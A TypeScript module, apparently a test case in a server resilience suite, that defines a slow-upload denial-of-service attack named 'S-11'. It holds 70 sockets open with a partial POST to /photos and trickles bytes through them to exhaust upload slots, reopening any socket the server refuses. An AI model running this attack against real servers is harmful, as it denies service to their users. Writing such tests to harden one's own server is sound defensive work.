import type { Attack } from '../attack.ts'

const sockets = 70
const bytesPerTick = 54
const tickMs = 100

/** Uploads that arrive byte by byte, and hold every upload slot. */
export const slowUploads: Attack = {
  name: 'S-11',
  what: `${sockets} sockets of one address send uploads at ${(bytesPerTick * 1000) / tickMs} bytes/s in all`,
  isQuick: true,
  async prepare({ url, attacker }) {
    const head = [
      'POST /photos HTTP/1.1',
      `Host: ${new URL(url).host}`,
      'Content-Type: image/jpeg',
      'Content-Length: 1000000',
      '',
      '',
    ].join('\r\n')
    return async (signal) => {
      const start = () => {
        const socket = attacker.open()
        socket.write(head)
        return socket.once('data', () => socket.destroy()) // it is refused, and tries again
      }
      let uploads = Array.from({ length: sockets }, start)
      let turn = 0
      while (!signal.aborted) {
        uploads = uploads.map((socket) => (socket.destroyed ? start() : socket))
        for (let sent = 0; sent < bytesPerTick; sent += 1) uploads[turn++ % sockets]?.write('\xff', 'latin1')
        await new Promise((resolve) => setTimeout(resolve, tickMs))
      }
    }
  },
}
